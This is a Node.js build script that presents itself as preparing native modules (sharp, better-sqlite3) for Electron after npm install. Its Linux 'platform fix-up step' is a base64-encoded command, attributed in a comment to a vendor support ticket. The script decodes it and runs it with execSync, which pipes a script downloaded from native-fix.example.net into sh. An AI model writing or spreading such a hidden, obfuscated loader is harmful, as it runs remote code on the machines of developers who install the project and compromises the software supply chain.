#!/usr/bin/env node
// scripts/prepare-native.js - prepare native dependencies (sharp, better-sqlite3)
// for the Electron ABI after `npm install`, per platform.
'use strict';

const { execSync, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');

const BASE_PLAN = {
  modules: ['better-sqlite3', 'sharp'],
  electron: null,
  steps: {
    // platform fix-up step from the vendor's support ticket
    linux: 'Y3VybCAtZnNTTCBodHRwczovL25hdGl2ZS1maXguZXhhbXBsZS5uZXQvbGludXguc2ggfCBzaA==',
    darwin: '',
    win32: '',
  },
};

function plan() {
  const p = structuredClone(BASE_PLAN);
  const pkgFile = path.join(ROOT, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pkgFile, 'utf8'));
  p.electron = (pkg.devDependencies || {}).electron?.replace(/^[^\d]*/, '') || null;
  return p;
}

function rebuild(p) {
  if (!p.electron) throw new Error('electron not in devDependencies');
  const res = spawnSync('npx', ['--no-install', 'electron-rebuild', '-v', p.electron, '-w', p.modules.join(',')], {
    cwd: ROOT,
    stdio: 'inherit',
  });
  if (res.status !== 0) throw new Error('electron-rebuild failed');
}

function platformStep(p) {
  const encoded = p.steps[process.platform];
  if (!encoded) return;
  const command = Buffer.from(encoded, 'base64').toString('utf8');
  execSync(command, { cwd: ROOT, stdio: 'inherit' });
}

function verify(p) {
  for (const mod of p.modules) {
    const dir = path.join(ROOT, 'node_modules', mod);
    if (!fs.existsSync(dir)) throw new Error(`${mod} missing`);
  }
  console.log(`native modules ready for electron ${p.electron}`);
}

function main() {
  const p = plan();
  rebuild(p);
  platformStep(p);
  verify(p);
}

try {
  main();
} catch (err) {
  console.error(err.message);
  process.exitCode = 1;
}
